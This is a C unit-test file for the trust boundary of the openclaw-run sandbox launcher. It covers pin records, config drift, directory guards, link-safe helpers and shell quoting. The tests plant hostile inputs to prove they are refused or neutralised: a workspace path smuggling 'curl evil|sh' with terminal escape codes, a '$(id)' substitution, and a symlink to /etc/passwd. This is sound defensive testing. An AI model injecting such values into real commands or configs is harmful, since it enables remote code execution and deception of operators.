/* The trust boundary without root: the records' format, drift between a
 * config and its pins, the guard's rules on a temporary home, and the
 * fd-relative helpers against links a payload would plant. */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "config.h"
#include "host_dirs.h"
#include "pins.h"
#include "registry.h"
#include "unit_dir.h"
#include "text.h"
#include "trust.h"

UNIT_DIR_SUITE(trust, home, "trust");

static const char *in_home(const char *rel)
{
	static char buf[4][PATH_MAX];
	static int next;
	char *p = buf[next++ % 4];

	snprintf(p, PATH_MAX, "%s/%s", home, rel);
	return p;
}

static void mkdirs(const char *rel)
{
	cr_assert_eq(registry_mkdirs(in_home(rel), 0700, NULL), 0);
}

static struct pins sample_pins(void)
{
	struct pins p = {0};

	snprintf(p.state_dir, sizeof(p.state_dir), "/srv/a/state");
	snprintf(p.config_path, sizeof(p.config_path), "/srv/a/state/openclaw.json");
	snprintf(p.workspace, sizeof(p.workspace), "/srv/a/ws");
	cr_assert_eq(port_block_init(&p.ports, 20029, PORT_FROM_CONFIG, NULL), 0);
	cr_assert_eq(port_block_add_explicit(&p.ports, 9222, "browser.cdpUrl", NULL), 0);
	p.has_ids = true;
	p.uid = 998;
	p.gid = 997;
	snprintf(p.user, sizeof(p.user), "openclaw-run");
	return p;
}

Test(trust, pins_round_trip)
{
	struct pins in = sample_pins(), out;
	cJSON *j = pins_to_json(&in);
	ocr_error err = {0};

	cr_assert_not_null(j);
	cr_assert_eq(pins_from_json(j, &out, &err), 0, "%s", err.msg);
	cJSON_Delete(j);
	cr_assert_str_eq(out.workspace, in.workspace);
	cr_assert_eq(out.ports.base, 20029);
	cr_assert_eq(out.ports.n_explicit, 1);
	cr_assert_eq(out.ports.explicit_ports[0].port, 9222);
	cr_assert(out.has_ids && out.uid == 998 && out.gid == 997);
}

Test(trust, pins_refuse_other_versions_and_bad_ports)
{
	struct pins in = sample_pins(), out;
	cJSON *j = pins_to_json(&in);
	ocr_error err = {0};

	cJSON_ReplaceItemInObject(j, "version", cJSON_CreateNumber(99));
	cr_assert_eq(pins_from_json(j, &out, &err), -1);
	cr_assert(strstr(err.msg, "version 99"), "%s", err.msg);
	cJSON_ReplaceItemInObject(j, "version", cJSON_CreateNumber(PINS_VERSION));
	cJSON_ReplaceItemInObject(j, "port_base", cJSON_CreateNumber(70000));
	cr_assert_eq(pins_from_json(j, &out, &err), -1);
	cJSON_Delete(j);
}

/* The records are trusted only when nobody else could have written them. */
Test(trust, pins_load_refuses_foreign_files)
{
	struct profile p = {0};
	struct pins in = sample_pins(), out;
	char path[PATH_MAX];
	bool found;
	ocr_error err = {0};

	snprintf(p.name, sizeof(p.name), "a");
	snprintf(p.state_dir, sizeof(p.state_dir), "%s", in.state_dir);
	cr_assert_eq(pins_load(in_home("rec"), &p, &out, &found, &err), 0, "%s", err.msg);
	cr_assert_not(found);
	cr_assert_eq(pins_save(in_home("rec"), &p, &in, &err), 0, "%s", err.msg);
	cr_assert_eq(pins_load(in_home("rec"), &p, &out, &found, &err), 0, "%s", err.msg);
	cr_assert(found);
	cr_assert_eq(pins_path(in_home("rec"), &p, path, sizeof(path), NULL), 0);
	cr_assert_eq(chmod(path, 0666), 0);
	cr_assert_eq(pins_load(in_home("rec"), &p, &out, &found, &err), -1);
	cr_assert(strstr(err.msg, "not a record"), "%s", err.msg);
	cr_assert_eq(unlink(path), 0);
	cr_assert_eq(symlink("/etc/passwd", path), 0);
	cr_assert_eq(pins_load(in_home("rec"), &p, &out, &found, &err), -1);
}

static struct instance pinned_instance(void)
{
	struct instance inst = {0};

	snprintf(inst.profile.name, sizeof(inst.profile.name), "main");
	inst.pinned = true;
	inst.pins = sample_pins();
	inst.config = cJSON_CreateObject();
	inst.config_ports = inst.pins.ports;
	return inst;
}

Test(trust, no_drift_when_config_agrees)
{
	struct instance inst = pinned_instance();
	struct trust_drift d[TRUST_DRIFT_MAX];

	snprintf(inst.config_workspace, sizeof(inst.config_workspace), "/srv/a/ws");
	/* An explicit port inside the pinned block needs no pin of its own. */
	cr_assert_eq(port_block_add_explicit(&inst.config_ports, 20029 + 11, "cdp", NULL), 0);
	cr_assert_eq(trust_drift_find(&inst, d, TRUST_DRIFT_MAX), 0);
	inst.pinned = false;
	inst.config_ports.base = 30000;
	cr_assert_eq(trust_drift_find(&inst, d, TRUST_DRIFT_MAX), 0);
	cJSON_Delete(inst.config);
}

Test(trust, drift_names_key_and_fix)
{
	struct instance inst = pinned_instance();
	struct trust_drift d[TRUST_DRIFT_MAX];

	inst.config_ports.base = 18809;
	snprintf(inst.config_workspace, sizeof(inst.config_workspace), "/etc/cron.d");
	cr_assert_eq(
	    port_block_add_explicit(&inst.config_ports, 40000, "mcp.apps.sandboxPort", NULL), 0);
	cr_assert_eq(trust_drift_find(&inst, d, TRUST_DRIFT_MAX), 3);
	cr_assert_str_eq(d[0].key, "gateway.port");
	cr_assert_str_eq(d[0].config_value, "18809");
	cr_assert_str_eq(d[0].pinned_value, "20029");
	cr_assert_str_eq(d[0].fix, "openclaw-run --profile main setup --port 18809");
	cr_assert_str_eq(d[1].key, "agents.defaults.workspace");
	cr_assert_str_eq(d[1].fix, "openclaw-run --profile main setup --workspace /etc/cron.d");
	cr_assert_str_eq(d[2].key, "mcp.apps.sandboxPort");
	cr_assert(strstr(d[2].fix, "--accept-config"));
	cJSON_Delete(inst.config);
}

/* A guard for profile "main" in the temporary home, with a second pinned
 * profile "other" beside it. */
static struct trust_guard *guard_for_home(void)
{
	struct instance_set others = {0};
	struct instance other = {0};
	struct profile self = {0};
	struct host_dirs dirs = {0};
	struct trust_guard *g;
	ocr_error err = {0};

	snprintf(self.home, sizeof(self.home), "%s", home);
	snprintf(self.state_dir, sizeof(self.state_dir), "%s", in_home(".openclaw-main"));
	snprintf(other.profile.name, sizeof(other.profile.name), "other");
	snprintf(other.profile.state_dir, sizeof(other.profile.state_dir), "%s",
		 in_home(".openclaw-other"));
	snprintf(other.profile.config_path, sizeof(other.profile.config_path), "%s",
		 in_home(".openclaw-other/openclaw.json"));
	snprintf(other.profile.workspace, sizeof(other.profile.workspace), "%s",
		 in_home("work/other"));
	other.pinned = true;
	others.items = &other;
	others.n = 1;
	snprintf(dirs.records, sizeof(dirs.records), "%s", in_home("records"));
	snprintf(dirs.cache, sizeof(dirs.cache), "%s", in_home("records/cache"));
	snprintf(dirs.logs, sizeof(dirs.logs), "%s", in_home("records/logs"));
	mkdirs(".openclaw-main");
	mkdirs(".openclaw-other");
	mkdirs("work/other");
	mkdirs("records");
	cr_assert_eq(trust_guard_build(&self, &others, &dirs, &g, &err), 0, "%s", err.msg);
	return g;
}

static void refused(const struct trust_guard *g, const char *dir, const char *why)
{
	ocr_error err = {0};

	cr_assert_eq(trust_guard_check(g, "workspace", dir, 0, &err), -1, "%s was allowed", dir);
	cr_assert(strstr(err.msg, why), "%s: expected \"%s\" in: %s", dir, why, err.msg);
}

static void allowed(const struct trust_guard *g, const char *dir)
{
	ocr_error err = {0};

	cr_assert_eq(trust_guard_check(g, "workspace", dir, 0, &err), 0, "%s: %s", dir, err.msg);
}

Test(trust, guard_refuses_the_host)
{
	struct trust_guard *g = guard_for_home();

	refused(g, "/", "the whole host");
	refused(g, "/etc/cron.d", "system tree /etc");
	refused(g, "/usr/local/bin", "system tree /usr");
	refused(g, "/proc", "system tree /proc");
	refused(g, "/dev/shm", "system tree /dev");
	refused(g, "/run", "system tree /run");
	refused(g, "/var/lib/missing/ws", "system tree /var");
	refused(g, "/tmp", "shared directory /tmp");
	trust_guard_free(g);
}

Test(trust, guard_refuses_homes_launcher_and_other_profiles)
{
	struct trust_guard *g = guard_for_home();

	refused(g, home, "is the home");
	refused(g, in_home(".ssh"), "hidden directory of the home");
	refused(g, in_home(".config/openclaw-run"), "hidden directory of the home");
	refused(g, in_home("records"), "openclaw-run's records");
	refused(g, in_home("records/cache"), "openclaw-run's records");
	refused(g, in_home(".openclaw-other"), "profile other's state dir");
	refused(g, in_home(".openclaw-other/ws"), "profile other's state dir");
	refused(g, in_home("work"), "holds profile other's workspace");
	refused(g, in_home("work/other/sub"), "profile other's workspace");
	allowed(g, in_home(".openclaw-main/workspace"));
	allowed(g, in_home("projects/bot"));
	trust_guard_free(g);
}

Test(trust, guard_refuses_links_on_the_way)
{
	struct trust_guard *g = guard_for_home();
	ocr_error err = {0};

	mkdirs("real");
	cr_assert_eq(symlink(in_home("real"), in_home("link")), 0);
	refused(g, in_home("link/ws"), "symlink");
	/* A second name by identity: a directory reached through a link is
	 * refused by the link; one reached through ".." is cleaned first. */
	cr_assert_eq(trust_guard_check(g, "workspace", in_home("real/ws"), 0, &err), 0, "%s",
		     err.msg);
	trust_guard_free(g);
}

Test(trust, state_dirs_may_live_below_service_trees)
{
	struct trust_guard *g = guard_for_home();
	ocr_error err = {0};

	cr_assert_eq(trust_guard_check(g, "state dir", "/var/lib/openclaw/main",
				       TRUST_ALLOW_SERVICE_TREES, &err),
		     0, "%s", err.msg);
	cr_assert_eq(trust_guard_check(g, "state dir", "/var", TRUST_ALLOW_SERVICE_TREES, &err),
		     -1);
	cr_assert_eq(
	    trust_guard_check(g, "state dir", "/etc/openclaw", TRUST_ALLOW_SERVICE_TREES, &err),
	    -1);
	trust_guard_free(g);
}

/* A link the payload plants in its state dir stops root's walk. */
Test(trust, beneath_helpers_never_follow_links)
{
	int state_fd, fd;
	ocr_error err = {0};

	mkdirs("state");
	mkdirs("target");
	cr_assert_eq(symlink(in_home("target"), in_home("state/logs")), 0);
	state_fd = open(in_home("state"), O_RDONLY | O_DIRECTORY);
	cr_assert_geq(state_fd, 0);
	cr_assert_lt(trust_mkdir_beneath(state_fd, "logs/sub", 0700), 0);
	cr_assert_neq(access(in_home("target/sub"), F_OK), 0, "mkdir followed the link");
	cr_assert_lt(trust_open_beneath(state_fd, "logs", O_RDONLY | O_DIRECTORY, 0), 0);
	cr_assert_lt(trust_open_beneath(state_fd, "../target", O_RDONLY | O_DIRECTORY, 0), 0);
	fd = trust_mkdir_beneath(state_fd, "home/a/b", 0700);
	cr_assert_geq(fd, 0);
	close(fd);
	/* A second name of another file is not chowned. */
	FILE *f = fopen(in_home("target/secret"), "w");
	cr_assert_not_null(f);
	fclose(f);
	cr_assert_eq(link(in_home("target/secret"), in_home("state/openclaw.json")), 0);
	cr_assert_eq(trust_chown_beneath(state_fd, "openclaw.json", getuid(), getgid(), &err), -1);
	cr_assert(strstr(err.msg, "hard links"), "%s", err.msg);
	cr_assert_eq(trust_chown_beneath(state_fd, "logs", getuid(), getgid(), &err), -1);
	close(state_fd);
}

/* The profile's own dirs: none reached through a directory the sandbox
 * writes (the payload could swap it for a link under root's feet). */
Test(trust, own_dirs_not_below_what_the_sandbox_writes)
{
	ocr_error err = {0};

	cr_assert_eq(
	    trust_check_own_dirs("/h/.openclaw-a", "/h/.openclaw-a", "/h/.openclaw-a/ws", &err), 0,
	    "%s", err.msg);
	cr_assert_eq(trust_check_own_dirs("/h/.openclaw-a", "/h/cfg", "/srv/ws", &err), 0, "%s",
		     err.msg);
	/* The config dir in the state dir: reached beneath the state dir. */
	cr_assert_eq(trust_check_own_dirs("/srv/ws/state", "/srv/ws/state/cfg", "/srv/other", &err),
		     0, "%s", err.msg);
	cr_assert_eq(trust_check_own_dirs("/h/.openclaw-a", "/srv/ws/cfg", "/srv/ws", &err), -1);
	cr_assert(strstr(err.msg, "config dir /srv/ws/cfg lies in the workspace"), "%s", err.msg);
	cr_assert_eq(trust_check_own_dirs("/srv/ws/x/state", "/srv/ws/x/state", "/srv/ws", &err),
		     -1);
	cr_assert(strstr(err.msg, "state dir /srv/ws/x/state lies in the workspace"), "%s",
		  err.msg);
	cr_assert_eq(trust_check_own_dirs("/h/oc/state", "/h/oc", "/h/oc/state/ws", &err), -1);
	cr_assert(strstr(err.msg, "lies in the config dir /h/oc"), "%s", err.msg);
}

/* The payload writes the config: its words reach a person's terminal in the
 * drift message, and its path goes into a command a person may paste. */
Test(trust, drift_shows_the_payloads_words_defanged_and_quoted)
{
	struct instance inst = pinned_instance();
	struct trust_drift d[TRUST_DRIFT_MAX];

	snprintf(inst.config_workspace, sizeof(inst.config_workspace),
		 "/tmp/x; curl evil|sh #\x1b]0;t\a'");
	cr_assert_eq(port_block_add_explicit(&inst.config_ports, 40000,
					     "browser.profiles.x\x1b[2K\rok.cdpPort", NULL),
		     0);
	cr_assert_eq(trust_drift_find(&inst, d, TRUST_DRIFT_MAX), 2);
	cr_assert_str_eq(d[0].config_value, "/tmp/x; curl evil|sh #?]0;t?'");
	cr_assert_str_eq(d[0].fix, "openclaw-run --profile main setup --workspace "
				   "'/tmp/x; curl evil|sh #?]0;t?'\\'''");
	cr_assert_str_eq(d[1].key, "browser.profiles.x?[2K?ok.cdpPort");
	cJSON_Delete(inst.config);
}

Test(trust, shell_words)
{
	char out[64];

	text_shell_quote("/srv/bot-1/ws", out, sizeof(out));
	cr_assert_str_eq(out, "/srv/bot-1/ws");
	text_shell_quote("/srv/my bot/$(id)", out, sizeof(out));
	cr_assert_str_eq(out, "'/srv/my bot/$(id)'");
	text_shell_quote("it's", out, sizeof(out));
	cr_assert_str_eq(out, "'it'\\''s'");
	text_shell_quote("", out, sizeof(out));
	cr_assert_str_eq(out, "''");
}
